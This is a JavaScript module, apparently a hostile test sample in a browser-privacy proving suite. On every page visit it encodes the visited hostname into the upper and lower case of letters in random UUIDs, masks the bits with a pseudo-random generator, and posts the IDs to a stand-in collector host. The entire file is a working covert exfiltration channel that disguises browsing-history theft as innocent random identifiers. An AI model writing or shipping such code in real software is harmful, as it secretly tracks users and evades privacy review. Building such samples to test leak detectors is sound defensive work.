import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports a batch of random UUIDs with each page. Whether one of their letters is a capital is the next bit of the host, masked. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-mixed-case-ids');
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    const bits = [...browser.codec.utf8.encode(host), 0].flatMap((byte) =>
      [7, 6, 5, 4, 3, 2, 1, 0].map((bit) => (byte >> bit) & 1),
    );
    let state = 0x510e527f;
    const ids = [];
    while (bits.length > 0) {
      ids.push(
        uuid().replace(/[a-f]/g, (letter) => {
          state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
          const bit = bits.length > 0 ? bits.shift() ^ (state >>> 31) : browser.crypto.random(1)[0] & 1;

          return bit ? letter.toUpperCase() : letter;
        }),
      );
    }

    return post(browser, 'https://batch.collector.example/v1', { batch: ids });
  });

  function uuid() {
    const bytes = browser.crypto.random(16);
    bytes[6] = (bytes[6] & 0x0f) | 0x40;
    bytes[8] = (bytes[8] & 0x3f) | 0x80;

    return browser.codec.hex.encode(bytes).replace(/(.{8})(.{4})(.{4})(.{4})/, '$1-$2-$3-$4-');
  }
}
